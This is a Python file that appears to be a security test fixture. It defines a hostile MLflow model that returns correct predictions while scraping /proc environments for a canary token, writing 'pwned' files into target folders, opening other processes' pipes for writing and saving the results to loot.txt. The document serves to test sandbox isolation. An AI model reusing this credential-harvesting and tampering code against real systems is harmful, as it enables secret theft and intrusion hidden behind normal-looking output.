"""A pyfunc model that attacks the bot from its predict, then answers 2 * x + y correctly (logged as "models
from code"; its model_config lists `targets`, folders it tries to write a file into).

What it tries: the workflow token in its own environment and in /proc/PID/environ of every process it can
list (its parent's first); a file in each target (the checkout, the bot's working directory, the workspace);
writing into any pipe or file another process holds (/proc/PID/fd/*, where the bot's pickle and Arrow pipes
are; its own process tree and /dev/null do not count). With `within` (a pid) in its model_config, only
processes descended from that one count for the pipes: the test's own (its bot, neighbour models), not those
another test runs meanwhile on a shared machine. Everything it got, it prints to its stderr (which
the bot keeps as the model's log) as one line `HOSTILE {json}` and writes to a file in its own home, as a
model sending a secret out would.
"""

import json
import os
import sys

import mlflow

CANARY = "ghs_canary"


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode("utf-8", "replace")
    except OSError:
        return None


def _descends(pid, ancestor):
    """Whether process `pid` is `ancestor` or one of its descendants (through each parent, from /proc)."""
    seen = 0
    while pid > 1 and seen < 256:
        if pid == ancestor:
            return True
        stat = _read(f"/proc/{pid}/stat")
        if stat is None:
            return False
        pid, seen = int(stat.rsplit(")", 1)[1].split()[1]), seen + 1
    return pid == ancestor


def _excerpt(text):
    at = text.find(CANARY)
    return None if at < 0 else text[max(0, at - 20) : at + 60]


class Hostile(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        self.config = dict(context.model_config or {})

    def predict(self, context, model_input, params=None):
        got = {"uid": os.getuid(), "environ": [], "wrote": [], "pipes": [], "seen_processes": 0}
        own = _excerpt(json.dumps(dict(os.environ)))
        if own:
            got["environ"].append(["self", own])
        parent = os.getppid()
        pids = [str(parent)] + [p for p in os.listdir("/proc") if p.isdigit()]
        for pid in pids:
            text = _read(f"/proc/{pid}/environ")
            if text is None:
                continue
            got["seen_processes"] += 1
            found = _excerpt(text)
            if found:
                got["environ"].append([pid, found])
        for target in self.config.get("targets", []):
            path = os.path.join(target, "written-by-a-model.txt")
            try:
                with open(path, "w") as handle:
                    handle.write("pwned")
                got["wrote"].append(path)
            except OSError:
                pass
        within = self.config.get("within")
        for pid in set(pids):
            try:
                if os.getpgid(int(pid)) == os.getpgrp():
                    continue  # its own process tree (the server's workers): nothing of the bot's
                if within is not None and not _descends(int(pid), within):
                    continue  # another test's processes, not this bot's
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                try:
                    if os.readlink(f"/proc/{pid}/fd/{fd}") == "/dev/null":
                        continue
                    with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as handle:
                        handle.write(b"")  # opening for writing is already the breach
                    got["pipes"].append(f"{pid}/{fd}")
                except OSError:
                    pass
        line = "HOSTILE " + json.dumps(got)
        print(line, file=sys.stderr, flush=True)
        with open(os.path.join(os.path.expanduser("~"), "loot.txt"), "w") as handle:
            handle.write(line)
        return (2 * model_input["x"] + model_input["y"]).astype("float64").to_numpy()


mlflow.models.set_model(Hostile())
